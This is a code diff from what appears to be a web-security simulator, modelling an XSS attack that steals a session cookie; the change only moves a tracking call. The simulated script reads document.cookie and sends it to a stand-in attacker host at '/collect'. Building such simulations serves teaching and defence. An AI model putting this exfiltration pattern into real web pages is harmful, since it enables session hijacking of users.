@@ -54,7 +54,6 @@ func xssCookieTheftScript(w *World) {
 	doc := w.siteURL("/account/")
 	visible := w.victim.jar.DocumentCookie(doc, w.time())
 	stolen := cookieValue(visible, w.cfg.SessionCookieName)
-	w.track("document.cookie", quoteOrEmpty(visible))
 
 	var check *Check
 	if stolen == "" && w.victimSessionCookie() != "" {
@@ -63,6 +62,7 @@ func xssCookieTheftScript(w *World) {
 		check = &Check{Rule: "the session cookie is not HttpOnly, so document.cookie includes it", Source: "RFC 6265bis §5.8.3", Passed: true}
 	}
 	w.note(ActorVictim, "the script reads document.cookie", quoteOrEmpty(visible), check)
+	w.track("document.cookie", quoteOrEmpty(visible))
 
 	exfil := URL{Scheme: "https", Host: AttackerHost, Path: "/collect", Query: "c=" + visible}
 	w.victim.do(nav{method: "GET", url: exfil, initiator: doc.Origin(), action: "the script sends what it read to the attacker", actor: ActorVictim})
